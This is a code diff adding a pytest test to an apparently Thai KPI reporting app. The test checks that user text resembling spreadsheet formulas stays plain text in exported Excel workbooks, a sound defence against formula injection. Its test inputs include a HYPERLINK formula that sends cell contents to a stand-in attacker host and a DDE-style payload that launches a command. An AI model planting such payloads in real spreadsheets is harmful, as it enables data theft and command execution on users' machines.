@@ -91,3 +91,23 @@ def test_each_kpi_has_a_sheet_with_the_copy_fields(workbook):
     assert fields["คะแนนประเมินตนเอง"] == "70.00"
     assert fields["ค่าเป้าหมาย/เกณฑ์การให้คะแนน"].splitlines()[1] == "มาตรฐาน: 90 ร้อยละ (70 คะแนน)"
     assert fields["อุปสรรค"] == OBSTACLES
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"])
+def test_user_text_that_looks_like_a_formula_stays_text(org, owner, overseer, coordinator, text):
+    from reporting.models import Submission
+
+    sar_round = accepted_round(org, owner, overseer, coordinator)
+    Submission.objects.filter(kpi=sar_round.first).update(supporting_factors=text)
+    content = render_document("esar", sar_round.round, "xlsx", thai_digits=False).content
+    book = load_workbook(io.BytesIO(content))
+    header, _kpi_rows = _rows(book["e-SAR"])
+    column = header.index("ปัจจัยสนับสนุน") + 1
+    cell = book["e-SAR"].cell(4, column)
+    assert cell.data_type == "s" and cell.value == text
+    copy = {row[0].value: row[1] for row in book["ตัวชี้วัด 1"].iter_rows(min_row=4)}
+    assert copy["ปัจจัยสนับสนุน"].data_type == "s"
+    assert copy["ปัจจัยสนับสนุน"].value == text
